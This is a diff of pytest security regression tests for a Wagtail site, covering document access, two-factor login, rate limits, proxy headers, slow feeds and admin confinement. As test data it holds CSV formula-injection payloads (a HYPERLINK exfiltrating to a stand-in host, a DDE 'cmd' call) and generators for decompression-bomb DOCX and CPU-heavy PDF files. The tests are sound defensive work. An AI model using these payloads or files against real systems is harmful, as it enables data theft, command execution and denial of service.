@@ -540,3 +540,636 @@ def test_forged_successor_shows_the_error_on_the_unit_form(admin_client, distric
         )
         assert response.status_code == 200, forged
         assert Page.objects.get(pk=district.pk).specific.successor_id is None
+
+
+# --- documents follow the pages that use them (issue #21, finding 2) -------------------
+
+
+def _document(name="tai-lieu.pdf", collection=None):
+    from wagtail.models import Collection
+
+    return get_document_model().objects.create(
+        title="Tài liệu",
+        file=SimpleUploadedFile(name, pdf_bytes()),
+        collection=collection or Collection.get_first_root_node(),
+    )
+
+
+def _restrict(page, kind, **extra):
+    from wagtail.models import PageViewRestriction
+
+    restriction = PageViewRestriction.objects.create(page=page, restriction_type=kind, **extra)
+    return restriction
+
+
+def _attach(directive, document):
+    from articles.models import DirectiveAttachment
+
+    DirectiveAttachment.objects.create(page=directive, document=document, label="Toàn văn")
+
+
+def _get(client, document):
+    response = client.get(document.url)
+    body = b"".join(response) if response.streaming else response.content
+    return response, body
+
+
+def test_attachment_of_a_login_restricted_page_is_not_served_anonymously(
+    client, directive, django_user_model
+):
+    document = _document()
+    _attach(directive, document)
+    _restrict(directive, "login")
+    response, body = _get(client, document)
+    assert response.status_code == 302 and "/_util/login/" in response["Location"]
+    assert b"%PDF" not in body
+    assert "no-store" in response["Cache-Control"]
+
+    reader = django_user_model.objects.create_user("dang-vien", "d@example.invalid", "x" * 14)
+    client.force_login(reader)
+    response, body = _get(client, document)
+    assert response.status_code == 200 and body.startswith(b"%PDF")
+    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
+
+
+def test_document_block_of_a_group_restricted_article_follows_the_group(
+    client, article, django_user_model, django_capture_on_commit_callbacks
+):
+    document = _document("bao-cao.pdf")
+    group = Group.objects.create(name="Cấp ủy viên")
+    with django_capture_on_commit_callbacks(execute=True):  # the reference index task
+        article.body = [("document", {"document": document, "title": "Báo cáo"})]
+        article.save_revision().publish()
+    restriction = _restrict(article, "groups")
+    restriction.groups.add(group)
+
+    assert _get(client, document)[0].status_code == 302  # anonymous: log in first
+    outsider = django_user_model.objects.create_user("ngoai", "n@example.invalid", "x" * 14)
+    client.force_login(outsider)
+    assert _get(client, document)[0].status_code == 404
+    member = django_user_model.objects.create_user("uy-vien", "u@example.invalid", "x" * 14)
+    member.groups.add(group)
+    client.force_login(member)
+    assert _get(client, document)[0].status_code == 200
+
+
+def test_rich_text_link_in_a_password_page_needs_the_password(
+    client, article, django_capture_on_commit_callbacks
+):
+    document = _document("phu-luc.pdf")
+    with django_capture_on_commit_callbacks(execute=True):
+        article.body = [
+            ("paragraph", f'<p><a linktype="document" id="{document.pk}">Phụ lục</a></p>')
+        ]
+        article.save_revision().publish()
+    restriction = _restrict(article, "password", password="mat-khau-trang")
+    assert _get(client, document)[0].status_code == 404
+    client.post(
+        reverse("wagtailcore_authenticate_with_password", args=[restriction.pk, article.pk]),
+        {"password": "mat-khau-trang", "return_url": article.url},
+    )
+    assert _get(client, document)[0].status_code == 200
+
+
+def test_the_most_open_live_page_wins(client, directive, province):
+    from .factories import DirectivePageFactory
+
+    document = _document()
+    _attach(directive, document)
+    _restrict(directive, "login")
+    open_page = DirectivePageFactory(parent=province, number=5, title="Chỉ thị số 05-CT/TW")
+    _attach(open_page, document)
+    response, body = _get(client, document)
+    assert response.status_code == 200 and body.startswith(b"%PDF")
+    assert "private" not in response.get("Cache-Control", "")
+
+    open_page.unpublish()  # the open page is gone: only the restricted one uses the file
+    assert _get(client, document)[0].status_code == 302
+
+
+def test_a_document_no_live_page_uses_is_not_public(client, directive, unit_editor, district):
+    unused = _document("chua-dung.pdf")
+    assert _get(client, unused)[0].status_code == 404
+    draft_only = _document("ban-nhap.pdf")
+    _attach(directive, draft_only)
+    directive.unpublish()
+    assert _get(client, draft_only)[0].status_code == 404
+    # An editor who may choose the file (their unit's collection) still gets it.
+    own = _document("don-vi.pdf", collection=district.access.collection)
+    client.force_login(unit_editor)
+    assert _get(client, own)[0].status_code == 200
+    assert _get(client, unused)[0].status_code == 404  # the root collection is not theirs
+
+
+# --- two-factor outside the admin (issue #21, finding 3) -------------------------------
+
+
+def _code(device):
+    from django_otp.oath import totp
+
+    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"
+
+
+@pytest.fixture
+def password_only(client, unit_editor, directive, article):
+    """An editor with a confirmed authenticator who gave the password but not the code; a
+    login-restricted page, its attachment, and a document in a login-only collection."""
+    from django_otp.plugins.otp_totp.models import TOTPDevice
+    from wagtail.models import Collection, CollectionViewRestriction
+
+    from .conftest import UNIT_PASSWORD
+
+    user = unit_editor
+    device = TOTPDevice.objects.create(user=user, name="app", confirmed=True)
+    document = _document()
+    _attach(directive, document)
+    _restrict(directive, "login")
+    _restrict(article, "login")
+    private = Collection.get_first_root_node().add_child(name="Nội bộ")
+    CollectionViewRestriction.objects.create(collection=private, restriction_type="login")
+    private_document = _document("noi-bo.pdf", collection=private)
+    _attach(directive, private_document)
+    client.post("/admin/login/", {"username": user.username, "password": UNIT_PASSWORD})
+    assert client.session.get("_auth_user_id") == str(user.pk)  # the password step passed
+    return client, device, [article.url, document.url, private_document.url]
+
+
+def test_a_password_without_the_code_opens_nothing_restricted(password_only):
+    client, device, urls = password_only
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 302, url
+        assert "/_util/login/" in response["Location"] or "/admin/login/" in response["Location"]
+
+    response = client.post(
+        reverse("accounts_two_factor_verify"), {"otp_token": _code(device), "next": "/admin/"}
+    )
+    assert response.status_code == 302
+    for url in urls:
+        assert client.get(url).status_code == 200, url
+
+
+def test_an_unverified_privileged_user_is_anonymous_on_the_site(client, article, admin_user_2fa):
+    _restrict(article, "login")
+    client.post("/admin/login/", {"username": "quantri", "password": "mat-khau-dai-12"})
+    assert client.get(article.url).status_code == 302  # no device set up yet: not verified
+
+
+@pytest.fixture
+def admin_user_2fa(django_user_model, settings):
+    settings.PORTAL_TWO_FACTOR_REQUIRED = True
+    return django_user_model.objects.create_superuser(
+        "quantri", "qt@example.invalid", "mat-khau-dai-12"
+    )
+
+
+# --- CSV formula injection (issue #21, finding 6) --------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_feedback_export_cells_cannot_become_formulas(admin_client, province, category, formula):
+    import csv
+    import io
+
+    from feedback import handling
+
+    handling.receive(
+        {
+            "name": formula,
+            "email": "a@example.vn",
+            "phone": "",
+            "address": formula,
+            "subject": formula,
+            "message": "Xin hỏi về thủ tục chuyển sinh hoạt Đảng.",
+        },
+        unit=province,
+        category=category,
+        attachment_type="",
+    )
+    response = admin_client.get("/admin/feedback/items/?export=csv")
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Vietnamese right
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert "Mã tra cứu" in rows[0]
+    for heading in ("Họ và tên", "Tiêu đề", "Địa chỉ"):
+        assert rows[0][heading] == "'" + formula, heading
+
+
+def test_report_exports_cannot_become_formulas(admin_client, district):
+    """The same class elsewhere: Wagtail's page reports export editors' titles."""
+    import csv
+    import io
+
+    from .factories import ArticlePageFactory
+
+    page = ArticlePageFactory(parent=district, title="=1+2 tiêu đề")
+    page.save_revision().publish()
+    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
+    assert "'=1+2 tiêu đề" in cells
+    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]
+
+
+# --- the client address behind the proxies (issue #21, finding 12) ---------------------
+
+BEHIND_NGINX = {
+    "CLIENT_IP_HEADER": "HTTP_X_REAL_IP",  # RATELIMIT_IP_META_KEY=HTTP_X_REAL_IP, documented
+    "TRUSTED_PROXIES": ["10.0.0.0/24", "127.0.0.1"],
+}
+
+
+def test_a_request_without_the_proxy_header_is_answered(client, home, settings):
+    for name, value in BEHIND_NGINX.items():
+        setattr(settings, name, value)
+    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, "search": "5/m"}
+    for address in ("10.0.0.5", "192.0.2.1"):  # from the proxy, and straight to 0.0.0.0:8000
+        assert client.get("/search/?q=dang", REMOTE_ADDR=address).status_code == 200
+        response = client.post("/counter/", {"page": ""}, REMOTE_ADDR=address)
+        assert response.status_code == 200
+
+
+def test_a_forged_header_does_not_escape_the_search_limit(client, home, settings):
+    for name, value in BEHIND_NGINX.items():
+        setattr(settings, name, value)
+    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, "search": "3/m"}
+    statuses = [
+        client.get(
+            f"/search/?q=dang&lan={n}", REMOTE_ADDR="192.0.2.50", HTTP_X_REAL_IP=f"203.0.113.{n}"
+        ).status_code
+        for n in range(6)
+    ]
+    assert statuses[:3] == [200] * 3 and set(statuses[3:]) == {429}
+    # Through the proxy, readers behind it are told apart by the header it writes.
+    statuses = [
+        client.get(
+            f"/search/?q=dang&lan={n}", REMOTE_ADDR="10.0.0.5", HTTP_X_REAL_IP=f"198.51.100.{n}"
+        ).status_code
+        for n in range(6)
+    ]
+    assert statuses == [200] * 6
+
+
+def test_counter_and_audit_log_see_the_same_address_as_the_limits(
+    client, home, settings, django_user_model
+):
+    from wagtail.models import ModelLogEntry
+
+    for name, value in BEHIND_NGINX.items():
+        setattr(settings, name, value)
+    online = [
+        client.post(
+            "/counter/", {"page": ""}, REMOTE_ADDR="192.0.2.60", HTTP_X_REAL_IP=f"203.0.113.{n}"
+        ).json()["online"]
+        for n in range(4)
+    ]
+    assert online == [1, 1, 1, 1]  # forged headers are one visitor, not four
+    through_proxy = client.post(
+        "/counter/", {"page": ""}, REMOTE_ADDR="10.0.0.5", HTTP_X_REAL_IP="198.51.100.1"
+    )
+    assert through_proxy.json()["online"] == 2
+
+    django_user_model.objects.create_superuser("quantri", "qt@example.invalid", "mat-khau-dai-12")
+    login = {"username": "quantri", "password": "sai-mat-khau"}
+    client.post("/admin/login/", login, REMOTE_ADDR="192.0.2.61", HTTP_X_REAL_IP="203.0.113.9")
+    client.post("/admin/login/", login, REMOTE_ADDR="10.0.0.7", HTTP_X_REAL_IP="198.51.100.9")
+    logged = ModelLogEntry.objects.filter(action="portal.login_failed").order_by("pk")
+    assert [entry.data["ip"] for entry in logged] == ["192.0.2.61", "198.51.100.9"]
+
+
+@given(header=st.text(max_size=60), remote=st.sampled_from(["10.0.0.5", "192.0.2.1", "", "x"]))
+@settings(max_examples=60, deadline=None)
+def test_any_header_or_remote_gives_an_address(header, remote):
+    import ipaddress
+
+    from django.test import RequestFactory, override_settings
+
+    from portal.clientaddr import client_address
+
+    with override_settings(**BEHIND_NGINX):
+        request = RequestFactory().get("/", REMOTE_ADDR=remote, HTTP_X_REAL_IP=header)
+        ipaddress.ip_address(client_address(request))  # never raises
+
+
+# --- rate limits on every password door (issue #21, finding 10) ------------------------
+
+
+def _limits(settings, **rates):
+    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, **rates}
+
+
+def test_page_password_guessing_is_limited(client, article, settings):
+    _limits(settings, page_password="5/m")
+    restriction = _restrict(article, "password", password="mat-khau-trang")
+    url = reverse("wagtailcore_authenticate_with_password", args=[restriction.pk, article.pk])
+    statuses = [
+        client.post(url, {"password": f"doan-{n}", "return_url": article.url}).status_code
+        for n in range(8)
+    ]
+    assert statuses[:5] == [200] * 5 and set(statuses[5:]) == {429}
+    refused = client.post(url, {"password": "mat-khau-trang", "return_url": article.url})
+    assert refused.status_code == 429 and "Quá nhiều yêu cầu" in refused.text
+    # From many addresses, the one password is still limited.
+    statuses = {
+        client.post(url, {"password": "x"}, REMOTE_ADDR=f"192.0.2.{n}").status_code
+        for n in range(10, 20)
+    }
+    assert 429 in statuses
+
+
+def test_document_password_guessing_is_limited(client, home, settings):
+    from wagtail.models import Collection, CollectionViewRestriction
+
+    _limits(settings, page_password="3/m")
+    private = Collection.get_first_root_node().add_child(name="Có mật khẩu")
+    restriction = CollectionViewRestriction.objects.create(
+        collection=private, restriction_type="password", password="bi-mat"
+    )
+    url = reverse("wagtaildocs_authenticate_with_password", args=[restriction.pk])
+    statuses = [client.post(url, {"password": f"doan-{n}"}).status_code for n in range(5)]
+    assert set(statuses[3:]) == {429}
+
+
+def test_front_end_login_is_limited(client, home, settings, django_user_model):
+    _limits(settings, login="4/m")
+    django_user_model.objects.create_user("dang-vien", "d@example.invalid", "x" * 14)
+    statuses = [
+        client.post("/_util/login/", {"username": "dang-vien", "password": f"sai-{n}"}).status_code
+        for n in range(6)
+    ]
+    assert statuses[:4] == [200] * 4 and set(statuses[4:]) == {429}
+    # Per username too: another address does not get another four guesses.
+    other = client.post(
+        "/_util/login/", {"username": "dang-vien", "password": "sai"}, REMOTE_ADDR="192.0.2.77"
+    )
+    assert other.status_code == 429
+
+
+def test_password_reset_mails_are_limited(client, home, settings, django_user_model):
+    from django.core import mail
+
+    _limits(settings, password_reset="3/h")
+    django_user_model.objects.create_user("bientap", "bientap@example.invalid", "x" * 14)
+    url = reverse("wagtailadmin_password_reset")
+    statuses = [
+        client.post(
+            url, {"email": "bientap@example.invalid"}, REMOTE_ADDR=f"192.0.2.{n}"
+        ).status_code
+        for n in range(6)
+    ]
+    assert statuses[:3] == [302] * 3 and set(statuses[3:]) == {429}
+    assert len(mail.outbox) == 3
+    # Per address too, whatever e-mail is asked for.
+    statuses = [
+        client.post(url, {"email": f"ai-{n}@example.invalid"}, REMOTE_ADDR="192.0.2.99").status_code
+        for n in range(5)
+    ]
+    assert set(statuses[3:]) == {429}
+
+
+# --- a slow feed server (issue #21, finding 5) -----------------------------------------
+
+
+def _fetched(*feeds):
+    from newsfeeds.fetching import fetch_all
+    from newsfeeds.models import ExternalFeed
+
+    fetch_all(ExternalFeed.objects.filter(pk__in=[feed.pk for feed in feeds]).order_by("pk"))
+    for feed in feeds:
+        feed.refresh_from_db()
+
+
+def test_a_server_dribbling_its_body_is_cut_at_the_deadline(feed_server):
+    from .factories import ExternalFeedFactory
+    from .feedserver import DRIBBLE_BYTES
+
+    feed = ExternalFeedFactory(url=feed_server.url("/dribble.xml"))
+    _fetched(feed)
+    assert "Tải quá" in feed.last_error
+    # It hung up at the deadline (5 s in tests: about 20 bytes), not when the server
+    # was done (DRIBBLE_BYTES, a minute).
+    assert feed_server.httpd.dribbled < DRIBBLE_BYTES // 2
+
+
+@pytest.mark.parametrize("concurrency", [1, 4])
+def test_a_slow_feed_does_not_hold_the_run_or_the_others(feed_server, settings, concurrency):
+    from .factories import ExternalFeedFactory
+
+    settings.NEWSFEEDS_CONCURRENCY = concurrency
+    slow = ExternalFeedFactory(name="chậm", url=feed_server.url("/dribble-headers"))
+    good = [
+        ExternalFeedFactory(name=f"tốt {n}", url=feed_server.url(path))
+        for n, path in enumerate(["/rss.xml", "/atom.xml"])
+    ]
+    _fetched(slow, *good)
+    # The run ended while the server was still sending its headers.
+    assert feed_server.httpd.header_dribble_done is False
+    assert "Tải quá" in slow.last_error
+    assert [feed.items.count() for feed in good] == [3, 2]
+
+
+# --- crafted attachments cannot pin a worker (issue #21, finding 4) --------------------
+
+
+def bomb_docx(paragraphs=400_000) -> bytes:
+    """A small DOCX (a few hundred kB) whose document.xml expands to tens of MB."""
+    import io
+    import zipfile
+
+    from .test_security_uploads import docx_bytes
+
+    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
+    body = "<w:p><w:r><w:t>Nghị quyết</w:t></w:r></w:p>" * paragraphs
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "word/document.xml":
+                text = data.decode()
+                start = text.index("<w:body>") + len("<w:body>")
+                data = (text[:start] + body + text[start:]).encode()
+            target.writestr(info.filename, data)
+    return buffer.getvalue()
+
+
+def heavy_pdf(operations=1_500_000) -> bytes:
+    """One page whose compressed content stream holds millions of text operations: small on
+    disk, minutes of pypdf's text extraction, all inside one page."""
+    import zlib
+
+    stream = zlib.compress(b"BT /F1 9 Tf 1 0 0 1 10 10 Tm (a) Tj ET\n" * operations, 9)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    out, offsets = bytearray(b"%PDF-1.4\n"), []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return bytes(out)
+
+
+CRAFTED = {"bom.docx": bomb_docx, "nang.pdf": heavy_pdf}
+
+
+@pytest.mark.parametrize("name", sorted(CRAFTED))
+def test_a_crafted_attachment_is_stopped_by_the_limits(settings, home, name):
+    from articles.attachments import extract_document
+
+    settings.PORTAL_EXTRACT_MAX_CPU_SECONDS = 2
+    settings.PORTAL_EXTRACT_MAX_MEMORY_MB = 300
+    settings.PORTAL_EXTRACT_MAX_SECONDS = 6
+    content = CRAFTED[name]()
+    assert len(content) < 1024 * 1024  # small on disk
+    document = get_document_model().objects.create(
+        title="Tệp độc", file=SimpleUploadedFile(name, content)
+    )
+    result = extract_document(document)
+    assert result.text == ""
+    assert "vượt giới hạn" in result.error
+
+
+def test_a_real_attachment_is_still_read(home):
+    from articles.attachments import extract_document
+
+    document = get_document_model().objects.create(
+        title="Nghị quyết", file=SimpleUploadedFile("nq.pdf", pdf_bytes("Nghi quyet 35"))
+    )
+    assert "Nghi quyet 35" in extract_document(document).text
+
+
+# Committed data (the background thread has its own connection); serialized rollback as in
+# test_backup, so the serialized-rollback tests after it still load the migrated data.
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_the_save_does_not_wait_for_the_extraction(settings, directive):
+    from articles.attachments import PENDING, wait_for_background
+    from articles.models import DirectiveAttachment, DirectivePage
+
+    settings.PORTAL_EXTRACT_IN_BACKGROUND = True
+    settings.PORTAL_EXTRACT_MAX_CPU_SECONDS = 2
+    heavy = get_document_model().objects.create(
+        title="Tệp nặng", file=SimpleUploadedFile("nang.pdf", heavy_pdf())
+    )
+    DirectiveAttachment.objects.create(page=directive, document=heavy)
+    page = DirectivePage.objects.get(pk=directive.pk)
+    page.save_revision().publish()
+    # The save returned; the file (seconds of CPU before its limit) is still being read.
+    assert DirectivePage.objects.get(pk=directive.pk).attachment_source == PENDING
+    wait_for_background()
+    done = DirectivePage.objects.get(pk=directive.pk)
+    assert done.attachment_source not in ("", PENDING)
+    assert "vượt giới hạn" in done.attachment_errors
+
+
+# --- admin confinement (issue #21, finding 9: the admin API part) ----------------------
+
+
+@pytest.mark.parametrize("endpoint", ["documents", "images"])
+def test_admin_api_lists_only_the_users_own_media(
+    client, unit_editor, district, other_unit_media, endpoint
+):
+    collection = district.access.collection
+    own = (
+        get_document_model().objects.create(
+            title="Của Gò Dầu",
+            collection=collection,
+            file=SimpleUploadedFile("g.pdf", pdf_bytes()),
+        )
+        if endpoint == "documents"
+        else get_image_model().objects.create(
+            title="Của Gò Dầu", collection=collection, file=SimpleUploadedFile("g.png", png_bytes())
+        )
+    )
+    client.force_login(unit_editor)
+    response = client.get(f"/admin/api/main/{endpoint}/")
+    assert response.status_code == 200
+    titles = {item["title"] for item in response.json()["items"]}
+    assert titles == {own.title}
+    other = other_unit_media[0 if endpoint == "images" else 1]
+    assert client.get(f"/admin/api/main/{endpoint}/{other.pk}/").status_code == 404
+
+
+@pytest.fixture
+def other_units_draft(province):
+    from .factories import ArticlePageFactory
+
+    other = UnitPageFactory(parent=province, title="Huyện ủy Bến Cầu")
+    draft = ArticlePageFactory(parent=other, title="Dự thảo mật của Bến Cầu", live=False)
+    return other, draft
+
+
+def test_move_confirm_does_not_show_another_units_titles(
+    client, unit_editor, district, other_units_draft
+):
+    from .factories import ArticlePageFactory
+
+    other, draft = other_units_draft
+    own = ArticlePageFactory(parent=district, title="Tin của Gò Dầu")
+    client.force_login(unit_editor)
+    for page, destination in ((own, draft), (draft, district)):
+        response = client.get(
+            reverse("wagtailadmin_pages:move_confirm", args=[page.pk, destination.pk])
+        )
+        assert "Dự thảo mật" not in response.content.decode()
+        assert response.status_code in (302, 403)
+
+
+def test_page_chooser_does_not_list_another_units_drafts(
+    client, unit_editor, district, other_units_draft
+):
+    from .factories import ArticlePageFactory
+
+    other, draft = other_units_draft
+    ArticlePageFactory(parent=other, title="Tin công khai của Bến Cầu")
+    client.force_login(unit_editor)
+
+    def html(url):
+        response = client.get(url)
+        assert response.status_code == 200
+        return (
+            response.json()["html"] if response["Content-Type"].endswith("json") else response.text
+        )
+
+    listing = html(reverse("wagtailadmin_choose_page_child", args=[other.pk]))
+    assert "Dự thảo mật" not in listing
+    assert "Tin công khai của Bến Cầu" in listing  # public pages elsewhere can be linked
+
+
+@pytest.mark.parametrize("action", ["delete", "unpublish", "move", "publish"])
+def test_bulk_actions_do_not_show_another_units_titles(
+    client, unit_editor, district, other_units_draft, action
+):
+    from .factories import ArticlePageFactory
+
+    other, draft = other_units_draft
+    own = ArticlePageFactory(parent=district, title="Tin của Gò Dầu")
+    client.force_login(unit_editor)
+    url = (
+        reverse("wagtail_bulk_action", args=["wagtailcore", "page", action])
+        + f"?id={own.pk}&id={draft.pk}&next=/admin/"
+    )
+    response = client.get(url)
+    assert response.status_code == 200
+    assert "Dự thảo mật" not in response.content.decode()
+    assert f"Trang số {draft.pk}" in response.content.decode()  # listed, without its title
